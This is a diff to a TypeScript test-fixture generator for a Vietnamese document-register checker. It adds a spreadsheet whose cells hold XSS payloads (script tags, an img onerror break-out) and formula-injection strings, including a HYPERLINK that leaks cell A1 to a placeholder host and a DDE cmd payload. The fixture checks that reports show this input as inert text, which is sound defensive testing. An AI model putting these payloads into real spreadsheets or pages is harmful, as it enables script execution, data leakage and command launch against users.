@@ -275,6 +275,33 @@ async function libreOffice1904(): Promise<void> {
   });
 }
 
+async function hostileText(): Promise<void> {
+  // Register text is untrusted: HTML, script and formula-like cells must reach every report as text.
+  mkdirSync(join(OUT, 'report'), { recursive: true });
+  const wb = newWorkbook();
+  const ws = wb.addWorksheet('Sổ đi');
+  const entries: FixtureEntry[] = outgoingSeries(12, 6, new Map()).map((en, i) => {
+    const cells = { ...en.cells };
+    if (i === 1) cells.typeAndSubject = `${String(cells.typeAndSubject)} <script>document.title="pwned"</script>`;
+    if (i === 2) cells.signer = '"><img src=x onerror="document.title=\'pwned\'">';
+    if (i === 3) cells.notes = '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")';
+    if (i === 4) cells.recipients = '+cmd|\' /C calc\'!A0';
+    return { cells };
+  });
+  entries.push({
+    cells: { symbol: '<script>alert(1)</script>', issuedDate: { date: [2024, 1, 12] }, typeAndSubject: 'Công văn V/v thử', signer: SIGNERS[0]!, recipients: 'UBND huyện', copies: 1, dispatchDate: { date: [2024, 1, 12] }, notes: '@SUM(1+1)' },
+    expect: [e('symbol/unrecognised', 'unrecognised', 'symbol', 'warning')],
+  });
+  const w = writeRegisterSheet(ws, { title: COVER_DI(2024), columns: OUTGOING_COLUMNS, indexRow: true, dates: 'date-cell' }, entries, severityOf('outgoing'));
+  await saveWorkbook(wb, 'report/noi-dung-doc-hai.xlsx');
+  sidecar('report/noi-dung-doc-hai', {
+    description: 'Cells holding <script>, an "><img onerror> attribute break-out and formula-like text (=HYPERLINK, +cmd, @SUM): every report shows them as text.',
+    args: DEFAULT_ARGS,
+    registers: [{ sheet: ws.name, kind: 'outgoing', entries: w.entries, year: 2024, headerRow: w.headerRow, columns: w.columns }],
+    findings: w.findings,
+  });
+}
+
 async function notARegister(): Promise<void> {
   const wb = newWorkbook();
   const ws = wb.addWorksheet('Báo cáo');
@@ -368,6 +395,7 @@ async function main(): Promise<void> {
   incomingCsv();
   await libreOffice1904();
   await notARegister();
+  await hostileText();
   badInputs();
   for (const build of FIXTURE_MODULES) await build();
   writeSamples();
